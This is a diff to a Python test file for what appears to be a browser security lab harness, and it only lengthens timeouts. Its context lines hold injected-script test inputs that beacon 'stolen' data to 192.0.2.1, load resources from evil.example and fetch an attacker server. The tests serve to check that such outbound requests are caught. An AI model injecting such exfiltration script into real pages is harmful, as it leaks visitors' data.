@@ -114,7 +114,7 @@ def test_nothing_else_is_reached_but_the_attempt_is_seen(chrome: lab.browser.Bro
         "navigator.sendBeacon('http://192.0.2.1/b', 'stolen');</script>"
         "<img src='https://evil.example/pixel.png'><link rel=stylesheet href=//evil.example/x.css>",
         cookies={"session": "abc"},
-        wait=0.3,
+        wait=1,
     )
     assert len(visit.asked("evil.example")) == 3
     assert [one.body for one in visit.asked("192.0.2.1")] == ["stolen"]
@@ -137,7 +137,7 @@ def test_another_loopback_server_may_be_the_attackers(chrome: lab.browser.Browse
     with lab.serve(app) as attacker:
         visit = chrome.visit(
             f"<img src='{attacker.url}/?c=1'><script>fetch('{attacker.url}').catch(() => 0)</script>",
-            wait=0.2,
+            wait=1,
         )
         asked = [one for one in visit.requests if attacker.url in one.url]
         assert [one.blocked for one in asked] == [False, False]
@@ -176,11 +176,11 @@ def test_actions_waits_and_pictures(chrome: lab.browser.Browser) -> None:
 def test_what_goes_wrong_in_an_action_is_said(chrome: lab.browser.Browser) -> None:
     for action in ("nonsense(", lambda page: page.click("#nothing")):
         with pytest.raises(lab.LabError, match="An action on the page failed"):
-            chrome.visit("x", actions=[action], seconds=1)
+            chrome.visit("x", actions=[action], seconds=3)
     with pytest.raises(ZeroDivisionError):
         chrome.visit("x", actions=[lambda page: 1 / 0])
     with pytest.raises(lab.Starved, match="Nothing on the page matched"):
-        chrome.visit("x", wait=".never", seconds=0.5)
+        chrome.visit("x", wait=".never", seconds=3)
     assert chrome.visit("still here").text == "still here"
 
 
